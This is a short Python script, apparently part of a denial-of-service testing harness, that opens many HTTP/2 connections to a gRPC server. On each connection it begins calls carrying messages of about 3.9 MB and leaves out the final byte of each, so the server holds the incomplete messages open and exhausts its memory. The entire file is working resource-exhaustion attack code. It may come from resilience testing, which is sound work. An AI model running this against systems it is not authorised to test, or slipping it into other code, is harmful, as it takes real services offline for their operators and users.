"""Begins many messages of the greatest length and never finishes them. gRPC
keeps an incomplete message for as long as the client likes."""

import attack
import http2
import message

LENGTH = 3_900_000
ON_ONE_CONNECTION = 50


def run(target, stage):
    """Begins up to 400 messages, and sends all but the end of each."""
    beginning = http2.grpc_message(bytes(LENGTH))[:-1]
    calls = 0
    while calls < 400 and not stage.over():
        connection = http2.Connection(target)
        connection.await_greeting(stage.until)
        stage.held.append(connection)
        for _ in range(ON_ONE_CONNECTION):
            if stage.over() or connection.closed:
                break
            stream = connection.call(message.PATH)
            connection.send_body(stream, beginning, False, stage.until)
            calls += 1
    stage.figures["calls"] = calls


if __name__ == "__main__":
    attack.main(run, seconds=5)
